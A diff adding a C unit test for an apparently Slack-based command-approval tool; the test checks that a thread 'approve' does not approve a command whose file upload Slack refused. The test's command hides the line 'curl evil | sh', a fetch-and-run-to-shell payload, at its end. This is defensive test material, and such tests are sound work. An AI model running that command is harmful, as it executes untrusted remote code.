@@ -68,6 +68,35 @@ START_TEST(a_command_that_does_not_fit_the_card_is_a_file_beside_it)
 }
 END_TEST
 
+START_TEST(a_word_in_the_thread_approves_nothing_whose_file_slack_refused)
+{
+	OWNED(str) struct str text = STR_INIT;
+	OWNED(char_ptr) char *answer = NULL;
+	OWNED(char_ptr) char *thread = NULL;
+
+	attack_begin_with_slack();
+	slack_fault("{'name':'files.getUploadURLExternal','what':'error',"
+	            "'error':'invalid_arguments','times':9}");
+	for (int i = 1; i < LINES; i++)
+		str_addf(&text, "echo %d\n", i);
+	str_add(&text, "curl evil | sh");
+	answer = command(text.bytes);
+	expect_soon("SELECT state FROM slack_message WHERE kind = 'diff'", "dead\n");
+	(void)channel();
+	thread = rows("SELECT ts FROM slack_message WHERE kind = 'session'");
+	thread[strcspn(thread, "\n")] = '\0';
+	(void)slack_acked("{'message':{'text':'approve','thread_ts':'%s'}}", thread);
+	expect("SELECT state FROM request", "pending\n");
+	expect("SELECT count(*) FROM decision", "0\n");
+	expect_soon("SELECT count(*) FROM (SELECT text FROM slack_outbox UNION ALL SELECT text FROM"
+	            " slack_message) WHERE text LIKE '%did not take the file%'",
+	            "1\n");
+	(void)slack_acked("{'message':{'text':'reject no','thread_ts':'%s'}}", thread);
+	expect("SELECT state FROM request", "rejected\n");
+	attack_end();
+}
+END_TEST
+
 START_TEST(the_card_and_the_notification_name_what_becomes_of_each_file)
 {
 	OWNED(char_ptr) char *answer = NULL;
@@ -129,6 +158,7 @@ int main(void)
 
 	tcase_add_test(c, blanks_push_no_part_of_a_command_out_of_the_card);
 	tcase_add_test(c, a_command_that_does_not_fit_the_card_is_a_file_beside_it);
+	tcase_add_test(c, a_word_in_the_thread_approves_nothing_whose_file_slack_refused);
 	tcase_add_test(c, the_card_and_the_notification_name_what_becomes_of_each_file);
 	tcase_add_test(c, what_force_overwrote_is_told);
 	return run_suite(s);
